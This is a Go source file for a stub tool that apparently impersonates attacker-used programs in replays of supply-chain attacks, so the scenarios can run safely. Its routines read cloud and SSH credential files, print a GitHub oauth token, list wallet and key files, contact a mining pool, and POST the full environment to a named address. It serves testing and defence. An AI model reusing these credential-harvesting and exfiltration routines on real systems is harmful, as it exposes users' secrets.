// Command tool stands for programs that cannot be installed here. It does what
// the one that its file is called does in the replays, harmlessly: a token that
// is printed is a canary, a miner counts for a moment, an agent writes a list.
package main

import (
	"fmt"
	"io/fs"
	"net"
	"net/http"
	"os"
	"os/exec"
	"path/filepath"
	"strings"
	"time"
)

func main() {
	args := os.Args[1:]
	line := strings.Join(args, " ")
	switch name := filepath.Base(os.Args[0]); name {
	case "gh", "gcloud", "az", "azd", "aws":
		own(name)
		printToken(name, line)
	case "terraform", "docker":
		own(name)
	case "bun":
		runScript(args)
	case "claude", "gemini", "q", "codex":
		inventory()
	case "trufflehog", "gitleaks", "trivy":
		scan(args)
	case "kubectl":
		own(name)
		fmt.Println("[]")
	case "systemctl":
		// What would be started is not: there is no manager to ask.
	case "xmrig", "jsextension", "ultralytics_runner", "pglog":
		mine(args)
	case "Runner.Listener", "config.sh":
		register(args)
	case "daemon":
		time.Sleep(20 * time.Second)
	case "beacon":
		post(args)
	default:
		if line == "--version" {
			fmt.Println("1.0.0")
			return
		}
		fmt.Fprintf(os.Stderr, "tool: nothing is known of %s\n", name)
		os.Exit(2)
	}
}

// own reads the files that a program keeps its log-ins in.
func own(name string) {
	for _, f := range map[string][]string{
		"gh": {".config/gh/hosts.yml"}, "aws": {".aws/credentials"}, "gcloud": {".config/gcloud/application_default_credentials.json"},
		"az": {".azure/msal_token_cache.json"}, "kubectl": {".kube/config"}, "docker": {".docker/config.json"},
		"terraform": {".aws/credentials", ".config/gcloud/application_default_credentials.json", ".azure/msal_token_cache.json", ".kube/config"},
	}[name] {
		_, _ = os.ReadFile(filepath.Join(os.Getenv("HOME"), f))
	}
}

// printToken prints the canary of the step's environment.
func printToken(name, line string) {
	for _, ask := range []string{"auth token", "print-access-token", "get-access-token", "get-session-token", "get-secret-value"} {
		if strings.Contains(line, ask) {
			b, _ := os.ReadFile(filepath.Join(os.Getenv("HOME"), ".config/gh/hosts.yml"))
			_, token, _ := strings.Cut(string(b), "oauth_token: ")
			token, _, _ = strings.Cut(token, "\n")
			fmt.Println(token)
			return
		}
	}
	fmt.Println(name, "ok")
}

// runScript is bun: what it would run itself, node runs for it.
func runScript(args []string) {
	if len(args) > 0 && args[0] == "run" {
		args = args[1:]
	}
	if len(args) == 0 || args[0] == "--version" {
		fmt.Println("1.3.13")
		return
	}
	cmd := exec.Command("node", args...)
	cmd.Stdin, cmd.Stdout, cmd.Stderr = os.Stdin, os.Stdout, os.Stderr
	if cmd.Run() != nil {
		os.Exit(1)
	}
}

// inventory is an agent that was told to list what looks like a secret.
func inventory() {
	var found []string
	for _, n := range []string{".npmrc", ".aws/credentials", ".config/solana/id.json", ".ssh/id_ed25519"} {
		path := filepath.Join(os.Getenv("HOME"), n)
		if _, err := os.ReadFile(path); err == nil {
			found = append(found, path)
		}
	}
	_ = os.WriteFile("/tmp/inventory.txt", []byte(strings.Join(found, "\n")+"\n"), 0o600)
}

// scan reads every file below the folder that is named last, as a secret
// scanner does.
func scan(args []string) {
	dir := "."
	for _, a := range args {
		if !strings.HasPrefix(a, "-") {
			dir = a
		}
	}
	n := 0
	_ = filepath.WalkDir(dir, func(path string, d fs.DirEntry, err error) error {
		if err != nil || d.IsDir() || n > 2000 {
			return nil
		}
		n++
		if b, err := os.ReadFile(path); err == nil && strings.Contains(string(b), "token") {
			fmt.Printf("{\"SourceMetadata\":%q,\"Raw\":%q}\n", path, b)
		}
		return nil
	})
}

// mine logs in to the pool that is named, and counts for a quarter of a second.
func mine(args []string) {
	for i, a := range args {
		if (a == "-o" || a == "--url") && i+1 < len(args) {
			if c, err := net.DialTimeout("tcp", strings.TrimPrefix(args[i+1], "stratum+tcp://"), 2*time.Second); err == nil {
				fmt.Fprintln(c, `{"id":1,"method":"login","params":{"login":"canary","pass":"x","agent":"stand-in"}}`)
				defer c.Close()
			}
		}
	}
	for end := time.Now().Add(250 * time.Millisecond); time.Now().Before(end); {
	}
}

// register asks for a runner's registration, as config.sh does.
func register(args []string) {
	for i, a := range args {
		if a == "--url" && i+1 < len(args) {
			if r, err := http.Post(args[i+1], "application/json", strings.NewReader("{}")); err == nil {
				r.Body.Close()
			}
		}
	}
	_ = os.WriteFile(filepath.Join(filepath.Dir(os.Args[0]), ".credentials"), []byte("{}\n"), 0o600)
}

// post sends the environment to the address that is named.
func post(args []string) {
	if len(args) == 0 {
		os.Exit(2)
	}
	r, err := http.Post(args[0], "text/plain", strings.NewReader(strings.Join(os.Environ(), "\n")))
	if err != nil {
		os.Exit(1)
	}
	r.Body.Close()
}
